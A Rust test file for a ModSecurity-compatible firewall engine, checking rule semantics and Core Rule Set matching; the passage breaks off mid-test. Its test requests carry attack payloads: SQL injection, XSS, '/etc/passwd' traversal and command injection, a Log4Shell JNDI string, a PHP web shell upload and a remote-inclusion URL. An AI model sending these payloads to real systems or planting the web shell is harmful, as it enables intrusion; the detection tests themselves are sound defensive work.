//! Engine tests on small rule sets written inline.

use std::path::Path;

use super::*;
use crate::seclang::Loader;

mod fold;

pub(crate) fn rules(text: &str) -> RuleSet {
    let mut l = Loader::new();
    l.load_str(std::path::Path::new("inline.conf"), text);
    let loaded = l.finish().unwrap_or_else(|e| panic!("{e:?}"));
    RuleSet::compile(&loaded)
}

pub(crate) fn ids(o: &Outcome) -> Vec<u64> {
    o.matched.iter().map(|m| m.id).collect()
}

#[test]
fn rx_on_args_blocks_when_on() {
    let rs = rules(
        r#"SecRuleEngine On
SecRule ARGS "@rx (?i)union\s+select" "id:1,phase:2,deny,status:403,msg:'sqli in %{MATCHED_VAR_NAME}'""#,
    );
    let o = rs.evaluate(&Request::new("GET", "/?q=1%20UNION%20SELECT%202"), None);
    assert_eq!(o.verdict, Verdict::Block { status: 403, rule_id: 1 });
    assert_eq!(o.matched[0].msg, "sqli in ARGS:q");
    let o = rs.evaluate(&Request::new("GET", "/?q=hello"), None);
    assert_eq!(o.verdict, Verdict::Pass);
    // A match's name is `VAR:key` as text; a key that is not UTF-8 gets replacement characters.
    let o = rs.evaluate(&Request::new("GET", "/?q%C3%A9=1%20UNION%20SELECT%202"), None);
    assert_eq!(o.matched[0].msg, "sqli in ARGS:q\u{e9}");
    let o = rs.evaluate(&Request::new("GET", "/?q%FF=1%20UNION%20SELECT%202"), None);
    assert_eq!(o.matched[0].msg, "sqli in ARGS:q\u{fffd}");
}

#[test]
fn detection_only_records_without_blocking() {
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecRule REQUEST_HEADERS:User-Agent "@pm nikto sqlmap" "id:2,phase:1,deny,capture,msg:'scanner %{TX.0}'""#,
    );
    let o = rs.evaluate(&Request::new("GET", "/").header("User-Agent", "Mozilla SQLMap/1.0"), None);
    assert_eq!(o.verdict, Verdict::Pass);
    assert_eq!(ids(&o), vec![2]);
    assert_eq!(o.matched[0].msg, "scanner SQLMap");
}

fn post(uri: &str, ct: &str, body: &str) -> Request {
    Request::new("POST", uri).header("Host", "x").header("Content-Type", ct).body(body)
}

#[test]
fn chains_need_every_part_and_setvar_runs_per_match() {
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecRule ARGS "@rx a" "id:10,phase:1,pass,log,setvar:tx.hits=+1,chain"
    SecRule ARGS_NAMES "@streq x" "setvar:tx.full=1"
SecRule TX:hits "@eq 2" "id:11,phase:1,pass,log"
SecRule &TX:full "@eq 1" "id:12,phase:1,pass,log""#,
    );
    // Two values match the head (setvar runs twice), the chain completes.
    assert_eq!(ids(&rs.evaluate(&Request::new("GET", "/?x=a&y=ab"), None)), vec![10, 11, 12]);
    // The head matches once, the chain does not: its setvar still ran, as in libmodsecurity3.
    assert_eq!(ids(&rs.evaluate(&Request::new("GET", "/?y=a"), None)), Vec::<u64>::new());
}

#[test]
fn skip_after_jumps_to_the_marker() {
    let rs = rules(
        r#"SecRule ARGS:skip "@eq 1" "id:20,phase:1,pass,nolog,skipAfter:END"
SecAction "id:21,phase:1,pass,log"
SecMarker END
SecAction "id:22,phase:1,pass,log""#,
    );
    assert_eq!(ids(&rs.evaluate(&Request::new("GET", "/?skip=1"), None)), vec![22]);
    assert_eq!(ids(&rs.evaluate(&Request::new("GET", "/?skip=0"), None)), vec![21, 22]);
}

#[test]
fn exclusions_counts_and_missing_variables() {
    let rs = rules(
        r#"SecRule ARGS|!ARGS:safe "@rx evil" "id:30,phase:2,pass,log"
SecRule &ARGS "@eq 3" "id:31,phase:2,pass,log"
SecRule REQUEST_HEADERS:X-Missing "!@rx ." "id:32,phase:1,pass,log"
SecRule &REQUEST_HEADERS:X-Missing "@eq 0" "id:33,phase:1,pass,log"
SecRule REQUEST_COOKIES:/^sess/ "@rx evil" "id:34,phase:1,pass,log""#,
    );
    let o = rs.evaluate(&Request::new("GET", "/?safe=evil&a=1&b=2").header("Cookie", "sessid=evil; other=x"), None);
    // A negated operator on a variable that is absent does not run (32), a count does (33).
    assert_eq!(ids(&o), vec![33, 34, 31]);
}

/// Counts of request collections are counted where the members are kept (no exclusions) or
/// from the listed members (with them): the same numbers either way, for every selector, over
/// query and body arguments together, with repeated names counted each time.
#[test]
fn counts_of_request_collections() {
    let rs = rules(
        r#"SecRequestBodyAccess On
SecRule &ARGS "@eq 4" "id:60,phase:2,pass,log"
SecRule &ARGS|!ARGS:zz "@eq 4" "id:61,phase:2,pass,log"
SecRule &ARGS:a "@eq 2" "id:62,phase:2,pass,log"
SecRule &ARGS:/^[ab]$/ "@eq 3" "id:63,phase:2,pass,log"
SecRule &ARGS_NAMES|!ARGS_NAMES:b "@eq 3" "id:64,phase:2,pass,log"
SecRule &REQUEST_HEADERS:x-twice "@eq 2" "id:65,phase:1,pass,log"
SecRule &REQUEST_HEADERS:X-Missing "@eq 0" "id:66,phase:1,pass,log"
SecRule &REQUEST_COOKIES "@eq 2" "id:67,phase:1,pass,log"
SecRule &ARGS_POST "@eq 5" "id:68,phase:2,pass,log""#,
    );
    let request = post("/?a=1&b=2", "application/x-www-form-urlencoded", "a=3&c=4")
        .header("X-Twice", "1")
        .header("x-twice", "2")
        .header("Cookie", "s=1; t=2");
    // 68 expects five body arguments where there are two: it must not match.
    assert_eq!(ids(&rs.evaluate(&request, None)), vec![65, 66, 67, 60, 61, 62, 63, 64]);
}

#[test]
fn runtime_ctl_removes_rules_and_targets() {
    let rs = rules(
        r#"SecRuleEngine On
SecRule REQUEST_URI "@beginsWith /admin" "id:40,phase:1,pass,nolog,ctl:ruleRemoveById=41,ctl:ruleRemoveTargetById=42;ARGS:q"
SecRule ARGS "@rx x" "id:41,phase:2,deny,log"
SecRule ARGS "@rx x" "id:42,phase:2,deny,log""#,
    );
    assert_eq!(rs.evaluate(&Request::new("GET", "/admin?q=x"), None).verdict, Verdict::Pass);
    let o = rs.evaluate(&Request::new("GET", "/admin?r=x"), None);
    assert_eq!(o.verdict, Verdict::Block { status: 403, rule_id: 42 });
    assert_eq!(rs.evaluate(&Request::new("GET", "/?q=x"), None).verdict, Verdict::Block { status: 403, rule_id: 41 });
}

#[test]
fn load_time_exceptions_and_default_actions() {
    let rs = rules(
        r#"SecRuleEngine On
SecDefaultAction "phase:2,log,auditlog,deny,status:406"
SecRule ARGS "@rx x" "id:50,phase:2,block"
SecRule ARGS "@rx y" "id:51,phase:2,block,tag:'noisy'"
SecRule ARGS:a "@rx z" "id:52,phase:2,block"
SecRuleRemoveByTag noisy
SecRuleUpdateTargetById 52 "!ARGS:a|ARGS:b""#,
    );
    assert_eq!(rs.rule_count(), 2);
    assert_eq!(rs.evaluate(&Request::new("GET", "/?a=x"), None).verdict, Verdict::Block { status: 406, rule_id: 50 });
    assert_eq!(rs.evaluate(&Request::new("GET", "/?a=y"), None).verdict, Verdict::Pass);
    assert_eq!(rs.evaluate(&Request::new("GET", "/?a=z"), None).verdict, Verdict::Pass);
    assert_eq!(rs.evaluate(&Request::new("GET", "/?b=z"), None).verdict, Verdict::Block { status: 406, rule_id: 52 });
}

#[test]
fn transformations_multimatch_and_capture() {
    let rs = rules(
        r#"SecRule ARGS "@rx ^<script>$" "id:60,phase:1,pass,log,t:none,t:urlDecodeUni,t:lowercase"
SecRule ARGS "@streq %41" "id:61,phase:1,pass,log,multiMatch,t:none,t:urlDecode"
SecRule ARGS:v "@rx (\d+)-(\d+)" "id:62,phase:1,pass,log,capture,msg:'%{TX.2}/%{TX.1}'""#,
    );
    let o = rs.evaluate(&Request::new("GET", "/?a=%253CScRiPt%253E&b=%2541&v=12-34"), None);
    assert_eq!(ids(&o), vec![60, 61, 62]);
    assert_eq!(o.matched[2].msg, "34/12");
}

#[test]
fn long_phrase_lists_remember_their_verdicts_across_requests() {
    // 400 phrases: too many for the automata. On ARGS the list is a check of the prescan, on
    // MATCHED_VARS (not prescanned) the part keeps its own verdicts: both remember what short
    // values hold. A value is kept the second time it comes, and answered from the memo the
    // third: every round must give what the first did, a match (after t:lowercase) and its
    // capture included.
    let words: Vec<String> = (0..400).map(|n| format!("word{n}x")).collect();
    let (action, words) = ("id:1,phase:2,pass,log,logdata:%{tx.0}", words.join(" "));
    let checked = format!(r#"SecRule ARGS "@pm {words}" "{action},capture,t:lowercase""#);
    let kept = format!(
        r#"SecRule ARGS "@rx ." "{action},chain"
SecRule MATCHED_VARS "@pm {words}" "capture,t:lowercase""#
    );
    for (text, check) in [(checked, true), (kept, false)] {
        let rs = rules(&text);
        let part = rs.rules[0].parts.last().unwrap();
        assert_eq!((part.prescan.is_some(), part.verdicts.is_some()), (check, !check), "{text:.40}");
        for round in 0..4 {
            let hit = rs.evaluate(&Request::new("GET", "/?a=WORD7X-plus&b=nothing"), None);
            assert_eq!(ids(&hit), vec![1], "round {round}");
            assert_eq!(hit.matched[0].data, "word7x", "round {round}");
            let miss = rs.evaluate(&Request::new("GET", "/?b=nothing&c=word8"), None);
            assert_eq!(ids(&miss), Vec::<u64>::new(), "round {round}");
        }
    }
}

#[test]
fn phrases_match_long_values_in_any_case() {
    // A value past the prescan's joint automata runs each pattern alone; a phrase list does
    // so lowercased, on the value lowercased, when that starts with fewer literals (this one).
    let rs = rules(
        r#"SecRuleEngine On
SecRequestBodyAccess On
SecRule REQUEST_BODY "@pm java.lang.Runtime classLoader" "id:1,phase:2,deny,status:403""#,
    );
    let filler = "lorem ipsum dolor sit amet ".repeat(20);
    for (body, blocked) in [
        (format!("{filler} JAVA.lang.runtime.exec"), true),
        (format!("{filler} x.CLASSLOADER.y"), true),
        (format!("classloader {filler}"), true),
        (format!("{filler} java.lang.Run time"), false),
        (format!("{filler} {filler}"), false),
    ] {
        let o = rs.evaluate(&post("/", "text/plain", &body), None);
        assert_eq!(o.verdict != Verdict::Pass, blocked, "{}", &body[body.len() - 30..]);
        let part = &rs.rules[0].parts[0];
        assert!(part.prescan.is_some(), "the part should be prescanned");
    }
}

#[test]
fn anomaly_scoring_blocks_at_the_threshold() {
    let rs = rules(
        r#"SecRuleEngine On
SecAction "id:70,phase:1,pass,nolog,setvar:tx.inbound_anomaly_score_threshold=5"
SecRule ARGS "@detectSQLi" "id:71,phase:2,pass,log,capture,logdata:'%{TX.0}',setvar:tx.blocking_inbound_anomaly_score=+5"
SecRule ARGS "@detectXSS" "id:72,phase:2,pass,log,setvar:tx.blocking_inbound_anomaly_score=+5"
SecRule TX:BLOCKING_INBOUND_ANOMALY_SCORE "@ge %{tx.inbound_anomaly_score_threshold}" "id:79,phase:2,deny,log""#,
    );
    let o = rs.evaluate(&Request::new("GET", "/?id=1%27%20OR%20%271%27=%271"), None);
    assert_eq!(o.verdict, Verdict::Block { status: 403, rule_id: 79 });
    assert_eq!(o.inbound_anomaly_score, 5);
    assert_eq!(o.matched[0].data, "s&sos");
    let o = rs.evaluate(&Request::new("GET", "/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"), None);
    assert_eq!(ids(&o), vec![72, 79]);
    assert_eq!(rs.evaluate(&Request::new("GET", "/?q=hello"), None).verdict, Verdict::Pass);
}

#[test]
fn body_processors_feed_args_files_and_xml() {
    let rs = rules(
        r#"SecRequestBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:80,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRule REQUEST_HEADERS:Content-Type "^text/xml" "id:81,phase:1,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule ARGS:json.a.b "@streq evil" "id:82,phase:2,pass,log"
SecRule XML:/* "@rx evil" "id:83,phase:2,pass,log"
SecRule XML://@* "@rx bad" "id:84,phase:2,pass,log"
SecRule FILES "@endsWith .php" "id:85,phase:2,pass,log"
SecRule ARGS_POST:f "@streq v" "id:86,phase:2,pass,log"
SecRule REQBODY_ERROR "!@eq 0" "id:87,phase:2,pass,log,logdata:'%{REQBODY_ERROR_MSG}'"
SecRule ARGS_NAMES "@streq json.list.array_1" "id:88,phase:2,pass,log""#,
    );
    let o = rs.evaluate(&post("/", "application/json", r#"{"a":{"b":"evil"},"list":[1,2]}"#), None);
    assert_eq!(ids(&o), vec![82, 88]);
    let o = rs.evaluate(&post("/", "text/xml", r#"<r x="bad"><i>evil</i></r>"#), None);
    assert_eq!(ids(&o), vec![83, 84]);
    let mp = "--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nv\r\n--b\r\nContent-Disposition: form-data; name=\"u\"; filename=\"x.php\"\r\n\r\n<?php\r\n--b--\r\n";
    let o = rs.evaluate(&post("/", "multipart/form-data; boundary=b", mp), None);
    assert_eq!(ids(&o), vec![85, 86]);
    let o = rs.evaluate(&post("/", "application/json", "{broken"), None);
    assert_eq!(ids(&o), vec![87]);
    assert!(o.matched[0].data.starts_with("JSON parsing error"));
}

#[test]
fn response_phases_see_status_headers_and_body() {
    let rs = rules(
        r#"SecRuleEngine On
SecResponseBodyAccess On
SecRule RESPONSE_STATUS "@eq 500" "id:90,phase:3,pass,log"
SecRule RESPONSE_HEADERS:X-Powered-By "@contains PHP" "id:91,phase:3,pass,log"
SecRule RESPONSE_BODY "@pm sql syntax" "id:92,phase:4,deny,status:502,log""#,
    );
    let resp =
        Response::new(500).header("X-Powered-By", "PHP/8").header("Content-Type", "text/html").body("SQL syntax near");
    let o = rs.evaluate(&Request::new("GET", "/"), Some(&resp));
    assert_eq!(ids(&o), vec![90, 91, 92]);
    assert_eq!(o.verdict, Verdict::Block { status: 502, rule_id: 92 });
    // A body whose type is not inspected is not read; the type is matched without case.
    let resp = Response::new(200).header("Content-Type", "image/png").body("SQL syntax");
    assert_eq!(ids(&rs.evaluate(&Request::new("GET", "/"), Some(&resp))), Vec::<u64>::new());
    let resp = Response::new(200).header("Content-Type", " Text/HTML ; charset=utf-8").body("SQL syntax");
    assert_eq!(ids(&rs.evaluate(&Request::new("GET", "/"), Some(&resp))), vec![92]);
}

#[test]
fn full_request_is_the_line_headers_and_body_loaded_so_far() {
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecRequestBodyAccess On
SecRule FULL_REQUEST "@rx \AGET /a\?b=1 HTTP/1\.1\nHost: x\nContent-Type: text/plain\n\n\z" "id:1,phase:1,pass,log"
SecRule FULL_REQUEST "@rx \n\nhello\z" "id:2,phase:2,pass,log"
SecRule FULL_REQUEST_LENGTH "@eq 59" "id:3,phase:2,pass,log""#,
    );
    let req = Request::new("GET", "/a?b=1").header("Host", "x").header("Content-Type", "text/plain").body("hello");
    assert_eq!(ids(&rs.evaluate(&req, None)), vec![1, 2, 3]);
}

#[test]
fn allow_stops_the_request_phases() {
    let rs = rules(
        r#"SecRuleEngine On
SecRule REMOTE_ADDR "@ipMatch 127.0.0.0/8,::1" "id:100,phase:1,allow,nolog"
SecRule ARGS "@rx x" "id:101,phase:2,deny""#,
    );
    assert_eq!(rs.evaluate(&Request::new("GET", "/?a=x"), None).verdict, Verdict::Pass);
    let other = Request::new("GET", "/?a=x").remote_addr("10.0.0.1".parse().expect("ip"));
    assert_eq!(rs.evaluate(&other, None).verdict, Verdict::Block { status: 403, rule_id: 101 });
}

#[test]
fn the_rule_set_is_shared_across_threads() {
    fn shared<T: Send + Sync>() {}
    fn sent<T: Send>() {}
    shared::<RuleSet>();
    // A transaction may move between threads with its request (an async task).
    sent::<Transaction<'static>>();
}

#[test]
fn unsupported_operators_are_listed_not_silent() {
    let rs = rules(r#"SecRule REMOTE_ADDR "@geoLookup" "id:110,phase:1,deny""#);
    assert_eq!(rs.unsupported().len(), 1);
    assert_eq!(rs.unsupported()[0].rule_id, 110);
    let rs = rules(r#"SecRule ARGS "@rx a(?=b)" "id:111,phase:1,deny""#);
    assert_eq!(rs.fallbacks()[0].rule_id, 111);
    assert!(rs.fallbacks()[0].prefilter);
}

/// Requests made of arbitrary bytes (a fixed pseudo-random sequence) through every body
/// processor and a rule of each kind: evaluation never panics.
#[test]
fn hostile_requests_never_panic() {
    let rs = rules(
        r#"SecRuleEngine On
SecRequestBodyAccess On
SecResponseBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRule REQUEST_HEADERS:Content-Type "^text/xml" "id:2,phase:1,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule ARGS|ARGS_NAMES|REQUEST_COOKIES|REQUEST_HEADERS|XML:/*|XML://@*|FILES|MULTIPART_PART_HEADERS "@rx (?i)(a+)+b" "id:3,phase:2,pass,log,capture,multiMatch,t:none,t:urlDecodeUni,t:htmlEntityDecode,t:jsDecode,t:cssDecode,t:cmdLine,t:base64Decode,t:normalizePathWin,t:utf8toUnicode,t:escapeSeqDecode,setvar:'tx.%{MATCHED_VAR_NAME}=%{TX.1}'"
SecRule REQUEST_URI|REQUEST_FILENAME|REQUEST_BASENAME|QUERY_STRING "@detectSQLi" "id:4,phase:2,pass,log"
SecRule REQUEST_BODY "@detectXSS" "id:5,phase:2,pass,log"
SecRule ARGS "@validateUtf8Encoding" "id:6,phase:2,pass,log"
SecRule ARGS "@validateByteRange 32-126" "id:7,phase:2,pass,log"
SecRule REQUEST_URI_RAW "@validateUrlEncoding" "id:8,phase:2,pass,log"
SecRule TX:/.*/ "@gt %{tx.nothing}" "id:9,phase:2,pass,log"
SecRule RESPONSE_BODY "@pm a b" "id:10,phase:4,pass,log""#,
    );
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let alphabet: &[u8] = b"aAb%u0{}[]<>\"'&=;:,/\\?#+-*\r\n \t\x00\xc3\xa9\xff--B\x0e";
    let mut bytes =
        |n: usize| -> Vec<u8> { (0..n).map(|_| alphabet[(next() % alphabet.len() as u64) as usize]).collect() };
    let types =
        ["application/json", "text/xml", "multipart/form-data; boundary=B", "application/x-www-form-urlencoded", ""];
    for i in 0..400 {
        let mut uri = b"/".to_vec();
        uri.extend(bytes(i % 40));
        let mut body =
            if i % 3 == 0 { b"--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n".to_vec() } else { Vec::new() };
        body.extend(bytes(i % 90));
        let req = Request::new(bytes(i % 5 + 1), uri)
            .header("Content-Type", types[i % types.len()])
            .header("Cookie", bytes(i % 20))
            .header(bytes(i % 7 + 1), bytes(i % 30))
            .body(body);
        let resp = Response::new(200).header("Content-Type", "text/html").body(bytes(i % 50));
        let _ = rs.evaluate(&req, Some(&resp));
    }
}

/// libmodsecurity3 keeps backslashes in a quoted operator argument as written (ModSecurity 2
/// under Apache halves them): `\\\\` in the file is two literal backslashes for the regex.
#[test]
fn operator_backslashes_stay_as_written() {
    let rs = rules(r#"SecRule ARGS:bs "@rx (?:^|[^\\\\])\\\\[cd]" "id:1,phase:1,pass,log""#);
    assert_eq!(ids(&rs.evaluate(&Request::new("GET", "/?bs=a%5Cc"), None)), Vec::<u64>::new());
    assert_eq!(ids(&rs.evaluate(&Request::new("GET", "/?bs=a%5C%5Cc"), None)), vec![1]);
}

/// MATCHED_VARS keeps the matches of consecutive matching rules and is cleared by a rule
/// that does not match; matches on MATCHED_VARS join it (libmodsecurity3 3.0.9 gives
/// mv=2, mv2=6 here).
#[test]
fn matched_vars_accumulate_until_a_rule_fails() {
    let rs = rules(
        r#"SecRule ARGS:none "@rx ." "id:1,phase:1,pass,nolog"
SecRule ARGS:a "@rx x" "id:2,phase:1,pass,nolog"
SecRule ARGS:b "@rx y" "id:3,phase:1,pass,nolog,chain"
    SecRule MATCHED_VARS "@rx ." "setvar:tx.mv=+1"
SecRule ARGS:c "@rx z" "id:4,phase:1,pass,nolog,chain"
    SecRule ARGS:d "@rx w" "chain"
    SecRule MATCHED_VARS "@rx ." "setvar:tx.mv2=+1"
SecRule TX:mv "@eq 2" "id:5,phase:1,pass,log,chain"
    SecRule TX:mv2 "@eq 6" "t:none""#,
    );
    assert_eq!(ids(&rs.evaluate(&Request::new("GET", "/?a=x&b=y&c=z&d=w"), None)), vec![5]);
}

/// A collection member's name, written out only when read, reads the same wherever it is
/// read: `MATCHED_VAR_NAME`, `MATCHED_VARS_NAMES` (and selected by it), a logged match. A
/// match on `MATCHED_VARS` is named after it and the member's name.
#[test]
fn member_names_read_as_var_colon_key() {
    let rs = rules(
        r#"SecRule REQUEST_HEADERS_NAMES "@rx ^x-" "id:1,phase:1,pass,log,t:lowercase,setvar:'tx.first=%{MATCHED_VAR_NAME}',chain"
    SecRule MATCHED_VARS_NAMES:REQUEST_HEADERS_NAMES:X-One "@streq REQUEST_HEADERS_NAMES:X-One" "chain"
    SecRule MATCHED_VARS "@streq x-two" "setvar:'tx.last=%{MATCHED_VAR_NAME}'"
SecRule TX:first "@rx ." "id:2,phase:1,pass,log,msg:'%{tx.first} %{tx.last}'""#,
    );
    let o = rs.evaluate(&Request::new("GET", "/").header("X-One", "1").header("X-Two", "2"), None);
    assert_eq!(ids(&o), vec![1, 2]);
    assert_eq!(o.matched[0].matched_var_name, "MATCHED_VARS:REQUEST_HEADERS_NAMES:X-Two");
    assert_eq!(o.matched[1].msg, "REQUEST_HEADERS_NAMES:X-Two MATCHED_VARS:REQUEST_HEADERS_NAMES:X-Two");
}

/// CRS 4.28.0 with the reference's ModSecurity settings, blocking at `paranoia`.
pub(crate) fn crs(paranoia: u8) -> RuleSet {
    crs_with(&paranoia_harness(paranoia))
}

/// CRS 4.28.0 where every rule runs, and so is in the prescan: at paranoia 4, reading
/// response bodies.
pub(crate) fn crs_every_rule() -> RuleSet {
    crs_with(&format!("SecResponseBodyAccess On\n{}", paranoia_harness(4)))
}

/// The setting that makes CRS 4 block at `paranoia`.
fn paranoia_harness(paranoia: u8) -> String {
    format!("SecAction \"id:900005,phase:1,nolog,pass,setvar:tx.blocking_paranoia_level={paranoia}\"")
}

/// CRS 4.28.0 with the reference's ModSecurity settings and the harness's.
fn crs_with(harness: &str) -> RuleSet {
    let crs = shared_dir().join("crs/v4.28.0");
    assert!(crs.join("rules").is_dir(), "CRS 4.28.0 not found at {} (set BARBICAN_CRS_DIR)", crs.display());
    compile_crs(&crs.join("crs-setup.conf.example"), harness, &crs.join("rules/*.conf"))
}

/// Debian's CRS 3.3.4 (package `modsecurity-crs`) with the reference's ModSecurity settings,
/// at `paranoia`.
pub(crate) fn crs3(paranoia: u8) -> RuleSet {
    let (rules, setup) =
        (Path::new("/usr/share/modsecurity-crs/rules"), Path::new("/etc/modsecurity/crs/crs-setup.conf"));
    let installed = rules.is_dir() && setup.is_file();
    assert!(
        installed,
        "Debian's CRS 3.3.4 is not installed ({}): run `apt-get install modsecurity-crs`",
        rules.display()
    );
    let harness = format!("SecAction \"id:900000,phase:1,nolog,pass,setvar:tx.paranoia_level={paranoia}\"");
    compile_crs(setup, &harness, &rules.join("*.conf"))
}

/// `../shared`, or the folder above `BARBICAN_CRS_DIR`: the CRS checkouts and the reference's
/// `modsecurity.conf`.
fn shared_dir() -> std::path::PathBuf {
    match std::env::var_os("BARBICAN_CRS_DIR") {
        Some(d) => std::path::PathBuf::from(d).join(".."),
        None => Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared"),
    }
}

/// The reference's `modsecurity.conf`, a CRS setup file, the harness's settings and the rules.
fn compile_crs(setup: &Path, harness: &str, rules: &Path) -> RuleSet {
    let mut l = Loader::new();
    l.load_file(&shared_dir().join("reference/modsecurity.conf"));
    l.load_file(setup);
    l.load_str(Path::new("harness.conf"), harness);
    l.load_file(rules);
    RuleSet::compile(&l.finish().unwrap_or_else(|e| panic!("{} errors", e.len())))
}

/// Attacks in every place the prescan treats apart (query, JSON body, long body, long
/// parameters, headers, cookies, multipart, `multiMatch` decodings), and benign requests (0
/// and 8).
pub(crate) fn crs_requests() -> Vec<Request> {
    let ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
    let filler = "lorem ipsum dolor sit amet ".repeat(20);
    let node = "cHJvY2Vzcy5tYWluTW9kdWxlLnJlcXVpcmUoJ2NoaWxkX3Byb2Nlc3MnKQ=="; // base64 of process.mainModule.require(...)
    let mp = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--b--\r\n";
    vec![
        Request::new("GET", "/api/v1/users?id=42&name=alice").header("User-Agent", ua),
        Request::new("GET", "/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--").header("User-Agent", ua),
        Request::new("GET", "/?x=%3Cscript%3Ealert(1)%3C/script%3E&y=..%2F..%2Fetc%2Fpasswd").header("User-Agent", ua),
        Request::new("GET", "/").header("User-Agent", "sqlmap/1.7").header("Cookie", "s=<img src=x onerror=alert(1)>"),
        Request::new("GET", "/?cmd=;cat%20/etc/passwd").header("Referer", "http://x/?a=${jndi:ldap://e/a}"),
        Request::new("GET", format!("/?n={node}")).header("User-Agent", ua),
        Request::new("GET", "/").header("User-Agent", ua).header("Content-Type", "text/plain; charset=ibm037"),
        post("/", "application/json", &format!(r#"{{"note":"{filler}","q":"1' or '1'='1"}}"#)),
        post("/", "application/json", r#"{"order":{"id":"ord-1","customer":{"name":"Alice Smith"},"tags":["a","b"]}}"#),
        post("/", "application/x-www-form-urlencoded", &format!("a={filler}&b=%3Csvg%20onload%3Dalert(1)%3E")),
        post("/", "text/plain", &format!("{filler}<?php eval($_POST['x']); ?>")),
        post("/", "text/plain", &format!("{filler} com.OpenSymphony.XWork2.ActionContext")),
        post("/", "text/plain", &format!("{filler} MOSCONFIG_Absolute_Path=HTTP://evil.example/x.txt?")),
        post("/", "application/json", &format!(r#"{{"note":"{filler} 1' UNION SELECT password FROM users--"}}"#)),
        post("/", "application/x-www-form-urlencoded", &format!("c={filler}%3Cscript%3Ealert(1)%3C/script%3E")),
        post("/upload", "multipart/form-data; boundary=b", mp),
    ]
}

/// The shortcuts (the prescan above all) only skip what cannot match: CRS 4.28.0 gives the
/// same matches with and without them.
#[test]
fn shortcuts_change_no_verdict_on_crs() {
    let with = crs(4);
    let prescanned = with.rules.iter().flat_map(|r| &r.parts).filter(|p| p.prescan.is_some()).count();
    assert!(prescanned > 200, "most @rx parts should be prescanned ({prescanned})");
    let without = crs(4).without_shortcuts();
    assert!(without.rules.iter().flat_map(|r| &r.parts).all(|p| p.prescan.is_none()));
    assert!(without.folded.iter().all(Option::is_none));
    let requests = crs_requests();
    // Twice over: the second round takes every short value's scan from the memos.
    for (i, req) in requests.iter().chain(&requests).enumerate() {
        let (a, b) = (with.evaluate(req, None), without.evaluate(req, None));
        assert_eq!(ids(&a), ids(&b), "request {i}: the shortcuts changed the matches");
        assert_eq!(a.verdict, b.verdict, "request {i}");
        if i % requests.len() > 0 && i % requests.len() != 8 {
            assert!(!a.matched.is_empty(), "request {i} is an attack and should match something");
        }
    }
}

/// The prescan takes the rules on the folded path alone: a rule every transaction skips
/// there (CRS's rules above the paranoia level) would only make the automata larger and the
/// scans longer. A transaction that leaves the path and reaches such a rule runs it without a
/// gate, with the same answers.
#[test]
fn rules_no_transaction_reaches_on_the_folded_path_are_not_prescanned() {
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecAction "id:1,phase:1,pass,nolog,setvar:tx.level=1"
SecRule ARGS:leave "@rx ." "id:2,phase:1,pass,nolog,ctl:ruleRemoveTargetById=3;TX:level"
SecRule TX:level "@lt 2" "id:3,phase:2,pass,nolog,skipAfter:END-LEVEL-2"
SecRule ARGS "@rx attack-two" "id:4,phase:2,pass,log"
SecMarker END-LEVEL-2
SecRule ARGS "@rx attack-one" "id:5,phase:2,pass,log""#,
    );
    let gated = |id: u64| rs.rules.iter().find(|r| r.id == id).is_some_and(|r| r.parts[0].prescan.is_some());
    assert!(gated(5) && !gated(4), "only the rule on the folded path is prescanned");
    let ask = |uri: &str| ids(&rs.evaluate(&Request::new("GET", uri), None));
    assert_eq!(ask("/?a=attack-one+attack-two"), vec![5]);
    assert_eq!(ask("/?a=benign"), Vec::<u64>::new());
    // Without its TX target rule 3 no longer skips: rule 4 runs, as written.
    assert_eq!(ask("/?leave=1&a=attack-one+attack-two"), vec![4, 5]);
    assert_eq!(ask("/?leave=1&a=benign"), Vec::<u64>::new());
    // CRS at paranoia 1: its paranoia 2 rules (932231, 942330) are not in the automata.
    let crs = crs(1);
    let gated = |id: u64| crs.rules.iter().find(|r| r.id == id).is_some_and(|r| r.parts[0].prescan.is_some());
    assert!(gated(930100) && gated(932230), "paranoia 1 rules are prescanned");
    assert!(!gated(932231) && !gated(942330), "paranoia 2 rules are not");
}

/// Once a transaction has used up the transitions its prescan automata may compute (random
/// bytes need one at nearly every byte), values go pattern by pattern: same verdicts.
#[test]
fn values_past_the_automata_budget_get_the_same_answers() {
    let with = crs(1);
    let mut alone = crs(1);
    alone.prescan.transitions = 0;
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut random = |n: usize| -> String {
        (0..n)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                char::from(b'a' + (x % 26) as u8)
            })
            .collect()
    };
    let mut requests = crs_requests();
    let form: Vec<String> = (0..40).map(|i| format!("a{i}={}", random(200))).collect();
    requests.push(post("/", "application/x-www-form-urlencoded", &form.join("&")));
    requests
        .push(Request::new("GET", format!("/?q={}%27%20or%201=1--", random(100))).header("User-Agent", random(150)));
    for (i, req) in requests.iter().chain(&requests).enumerate() {
        let (a, b) = (with.evaluate(req, None), alone.evaluate(req, None));
        assert_eq!(ids(&a), ids(&b), "request {i}");
        assert_eq!(a.verdict, b.verdict, "request {i}");
    }
}

/// The answers memos keep across transactions (prescans of short values, libinjection's
/// verdicts) are those a fresh rule set gives, whichever request a value came in first.
#[test]
fn values_seen_before_get_the_answers_they_would_get_fresh() {
    let text = r#"SecRuleEngine DetectionOnly
